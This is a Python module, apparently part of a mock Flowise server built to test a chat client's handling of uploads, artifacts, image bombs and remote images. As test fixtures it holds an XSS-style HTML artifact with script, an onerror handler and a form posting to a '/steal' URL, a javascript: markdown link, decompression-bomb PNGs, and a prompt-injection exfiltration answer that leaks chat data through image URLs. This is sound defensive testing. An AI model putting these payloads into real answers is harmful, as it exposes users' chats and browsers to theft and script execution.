"""Flows that take uploads (images, files, speech, full files, upserts) and that answer with files:
artifacts, image bombs, images from other hosts."""

from __future__ import annotations

import base64
from typing import Any

from .answers import answer_and_keep
from .flows import (
    API_KEY,
    CHATBOT_CONFIGS,
    Scenario,
)
from .handler import WireHandler
from .media import bomb_png, png

# What the voice flow's speech-to-text "hears" in any recording.
TRANSCRIPTION = "Какая столица Франции? What is the capital of France?"


def store_uploads(h: WireHandler, flow_id: str, chat_id: str, uploads: list[Any]) -> list[dict[str, Any]] | None:
    """Keeps each upload as Flowise's buildChatflow does and returns what its history stores, or None
    (and an error answer) for an upload Flowise would fail on."""
    stored = []
    for upload in uploads:
        if not isinstance(upload, dict):
            h.send_flowise_error(500, "Error: predictionsServices.buildChatflow - upload is not an object")
            return None
        kind, data, name = upload.get("type"), upload.get("data"), str(upload.get("name") or "")
        if kind in ("file", "file:rag", "audio") and data:
            head, _, payload = str(data).partition(",")
            if not head.startswith("data:") or not head.endswith(";base64"):
                h.send_flowise_error(
                    500, "Error: predictionsServices.buildChatflow - Cannot read properties of undefined"
                )
                return None
            mime = head[5:].split(";")[0]
            h.wire.stored[(flow_id, chat_id, name)] = (mime, base64.b64decode(payload))
            stored.append({"type": "stored-file", "name": name, "mime": upload.get("mime")})
        elif kind == "file:full" and data:
            stored.append({"type": "stored-file:full", "name": name, "mime": upload.get("mime")})
        else:
            stored.append({key: value for key, value in upload.items()})
    return stored


def uploads_echo(h: WireHandler, body: dict, streaming: bool) -> None:
    """Says what came with the question, as a flow that sees uploads would; speech becomes the question."""
    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
    uploads = body.get("uploads") or []
    stored = store_uploads(h, flow_id, chat_id, uploads)
    if stored is None:
        return
    question = str(body.get("question") or "")
    if flow_id == Scenario.VOICE and any(isinstance(u, dict) and u.get("mime") == "audio/ogg" for u in uploads):
        question = TRANSCRIPTION
    seen = ", ".join(f"{u.get('name')} ({u.get('type')}, {u.get('mime')})" for u in uploads if isinstance(u, dict))
    answer_and_keep(
        h, flow_id, body, streaming, f"Question: {question or '(none)'}. Uploads: {seen or 'none'}.", question, stored
    )


def attachments(h: WireHandler, flow_id: str, chat_id: str, body: Any) -> None:
    """POST /api/v1/attachments/{flow}/{chat}: the text of each file, for a flow with Full File Upload."""
    config = CHATBOT_CONFIGS.get(flow_id, {}).get("fullFileUpload")
    prefix = "Error: attachmentService.createAttachment - "
    if not config or not config.get("status"):
        h.send_flowise_error(500, prefix + "File upload is not enabled for this chatflow")
        return
    allowed = config["allowedUploadFileTypes"].split(",")
    extracted = []
    for _field, name, mime, content in body["files"] if isinstance(body, dict) else []:
        if mime not in allowed:
            h.send_flowise_error(
                500, prefix + f"File type '{mime}' is not allowed. Allowed types: {', '.join(allowed)}"
            )
            return
        h.wire.stored[(flow_id, chat_id, name)] = (mime, content)
        extracted.append({"name": name, "mimeType": mime, "size": len(content), "content": content.decode()})
    h.send_json(200, extracted)


def vector_upsert(h: WireHandler, body: Any) -> None:
    """POST /api/v1/vector/upsert/{flow}: not among Flowise's public endpoints, so it needs the key."""
    if h.headers.get("Authorization") != f"Bearer {API_KEY}":
        h.send_json(401, {"error": "Unauthorized Access"})
        return
    files = body["files"] if isinstance(body, dict) else []
    h.send_json(
        200,
        {
            "numAdded": len(files),
            "numDeleted": 0,
            "numUpdated": 0,
            "numSkipped": 0,
            "addedDocs": [{"pageContent": f[3].decode(errors="replace"), "metadata": {"source": f[1]}} for f in files],
        },
    )


CHART_PNG = png(320, 200, (220, 90, 40))
# An HTML artifact that would run script in, or reach out of, the page if it were rendered as is.
HOSTILE_HTML = (
    "<h2>Quarterly report</h2><p id='note'>Rendered from the flow.</p>"
    "<script>window.parent.__pwned = 'artifact-script'; window.top.__pwned = 'artifact-top';"
    "document.getElementById('note').textContent = 'SCRIPT RAN'; alert('artifact')</script>"
    "<img src=x onerror=\"window.top.__pwned='artifact-img'\">"
    "<form action='https://example.invalid/steal'><input name=q><button>Send</button></form>"
)
ARTIFACT_MARKDOWN = "### Summary\n\n**Revenue** grew. [Safe](https://example.org) [Bad](javascript:alert('md'))"
REPORT_CSV = b"quarter,revenue\nQ1,10\nQ2,12\n"


def with_artifacts(h: WireHandler, body: dict, streaming: bool) -> None:
    """An answer with the artifacts a code interpreter or image tool sends, and a file to download."""
    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
    h.wire.stored[(flow_id, chat_id, "chart.png")] = ("image/png", CHART_PNG)
    h.wire.stored[(flow_id, chat_id, "report.csv")] = ("text/csv", REPORT_CSV)
    inline = "data:image/png;base64," + base64.b64encode(png(48, 48, (40, 160, 60))).decode()
    artifacts = [
        {"type": "png", "data": "FILE-STORAGE::chart.png"},
        {"type": "png", "data": inline},
        {"type": "markdown", "data": ARTIFACT_MARKDOWN},
        {"type": "html", "data": HOSTILE_HTML},
        {"type": "png", "data": "FILE-STORAGE::missing.png"},
    ]
    annotations = [{"filePath": "FILE-STORAGE::report.csv", "fileName": "report.csv"}]
    answer_and_keep(
        h,
        flow_id,
        body,
        streaming,
        "Here is the chart you asked for.",
        str(body.get("question", "")),
        None,
        artifacts=artifacts,
        fileAnnotations=annotations,
    )


def image_bomb(h: WireHandler, body: dict, streaming: bool) -> None:
    """An answer whose artifacts are the bomb, as a file Flowise stored and as a data URL, and a
    picture within the budget but wider than the page."""
    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
    h.wire.stored[(flow_id, chat_id, "bomb.png")] = ("image/png", bomb_png())
    h.wire.stored[(flow_id, chat_id, "poster.png")] = ("image/png", bomb_png(2000, 1200))
    artifacts = [
        {"type": "png", "data": "FILE-STORAGE::bomb.png"},
        {"type": "png", "data": "data:image/png;base64," + base64.b64encode(bomb_png()).decode()},
        {"type": "png", "data": "FILE-STORAGE::poster.png"},
    ]
    # In large chunks: seven bytes at a time, the data URL alone would take minutes on a slow wire.
    answer_and_keep(
        h,
        flow_id,
        body,
        streaming,
        "Here is the picture.",
        str(body.get("question", "")),
        None,
        chunk_size=65536,
        artifacts=artifacts,
    )


def remote_images_answer(base: str) -> str:
    """What a prompt-injected answer writes to have the reader's browser send ``base`` the chat: images
    inline (with and without alt text), by reference, as HTML and in LaTeX."""
    return (
        f"Here is your summary. ![]({base}/tracker.png?d=secret) ![logo]({base}/inline.png?d=secret)\n\n"
        f'A chart: ![chart][r]\n\n<img src="{base}/html.png?d=secret">\n\n'
        f"$\\includegraphics{{{base}/latex.png}}$\n\n[r]: {base}/reference.png?d=secret\n"
    )


def remote_images(h: WireHandler, body: dict, streaming: bool) -> None:
    """The question is the address the answer's images point at (what an injected prompt would choose)."""
    base = str(body.get("question", "")).strip()
    artifacts = [{"type": "png", "data": f"{base}/artifact.png?d=secret"}]
    answer_and_keep(
        h, Scenario.REMOTE_IMAGES, body, streaming, remote_images_answer(base), base, None, artifacts=artifacts
    )
